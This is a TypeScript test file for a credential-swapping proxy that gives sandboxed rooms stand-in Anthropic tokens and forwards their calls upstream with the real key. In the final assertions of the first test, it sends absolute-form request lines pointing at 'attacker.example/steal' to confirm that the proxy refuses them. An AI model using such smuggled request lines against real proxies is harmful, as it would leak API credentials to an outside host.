import { createServer, request } from "node:http";
import type { AddressInfo } from "node:net";
import { afterEach, describe, expect, it } from "vitest";
import { UpstreamProxy } from "./upstream-proxy.js";

const closers: Array<() => Promise<void>> = [];
afterEach(async () => {
  for (const close of closers.splice(0)) await close();
});

/** A stand-in API that answers with what it received. */
async function echoServer(): Promise<string> {
  const server = createServer((incoming, outgoing) => {
    let body = "";
    incoming.on("data", (chunk) => {
      body += chunk;
    });
    incoming.on("end", () => {
      outgoing.writeHead(200, { "content-type": "application/json" });
      outgoing.end(JSON.stringify({ url: incoming.url, headers: incoming.headers, body }));
    });
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  closers.push(() => new Promise((resolve) => server.close(() => resolve())));
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}

/** A raw request (the request line as given) to the proxy. */
function raw(base: string, path: string, headers: Record<string, string>): Promise<{ status: number; body: string }> {
  const { port } = new URL(base);
  return new Promise((resolve, reject) => {
    const outgoing = request({ host: "127.0.0.1", port, path, method: "POST", headers }, (response) => {
      let body = "";
      response.on("data", (chunk) => {
        body += chunk;
      });
      response.on("end", () => resolve({ status: response.statusCode ?? 0, body }));
    });
    outgoing.on("error", reject);
    outgoing.end('{"model":"m"}');
  });
}

describe("UpstreamProxy", () => {
  it("forwards a room's call upstream with the real credential and custom headers, and nothing else", async () => {
    const upstream = await echoServer();
    const proxy = UpstreamProxy.for({
      ANTHROPIC_API_KEY: "real-key",
      ANTHROPIC_BASE_URL: upstream,
      ANTHROPIC_CUSTOM_HEADERS: "x-team: blue",
    });
    if (!proxy) throw new Error("no proxy");
    await proxy.start();
    closers.push(() => proxy.close());
    const room = proxy.environmentFor("key_0123456789abcdef");
    const token = room.ANTHROPIC_API_KEY as string;
    const base = room.ANTHROPIC_BASE_URL as string;
    expect(token).toMatch(/^ccapi-room-/);
    expect(proxy.environmentFor("key_0123456789abcdef").ANTHROPIC_API_KEY).toBe(token);

    const forwarded = await raw(base, "/v1/messages?beta=true", {
      "x-api-key": token,
      "content-type": "application/json",
    });
    expect(forwarded.status).toBe(200);
    const seen = JSON.parse(forwarded.body) as { url: string; headers: Record<string, string>; body: string };
    expect(seen.url).toBe("/v1/messages?beta=true");
    expect(seen.headers["x-api-key"]).toBe("real-key");
    expect(seen.headers["x-team"]).toBe("blue");
    expect(seen.body).toBe('{"model":"m"}');

    expect((await raw(base, "/v1/messages", { "x-api-key": "guess" })).status).toBe(401);
    expect((await raw(base, "/v1/messages", {})).status).toBe(401);
    // An absolute-form request line would send the real key elsewhere: refused.
    expect((await raw(base, "http://attacker.example/steal", { "x-api-key": token })).status).toBe(400);
    expect((await raw(base, "//attacker.example/steal", { "x-api-key": token })).status).toBe(400);
  });

  it("stands in for a bearer token in the variable the CLI sends as a bearer", async () => {
    const upstream = await echoServer();
    const proxy = UpstreamProxy.for({ CLAUDE_CODE_OAUTH_TOKEN: "real-oauth", ANTHROPIC_BASE_URL: upstream });
    if (!proxy) throw new Error("no proxy");
    await proxy.start();
    closers.push(() => proxy.close());
    const room = proxy.environmentFor("");
    expect(room.ANTHROPIC_API_KEY).toBeUndefined();
    const token = room.CLAUDE_CODE_OAUTH_TOKEN as string;
    const forwarded = await raw(room.ANTHROPIC_BASE_URL as string, "/v1/messages", {
      authorization: `Bearer ${token}`,
    });
    expect((JSON.parse(forwarded.body) as { headers: Record<string, string> }).headers.authorization).toBe(
      "Bearer real-oauth",
    );
    expect(UpstreamProxy.for({ PATH: "/bin" })).toBeUndefined();
  });
});
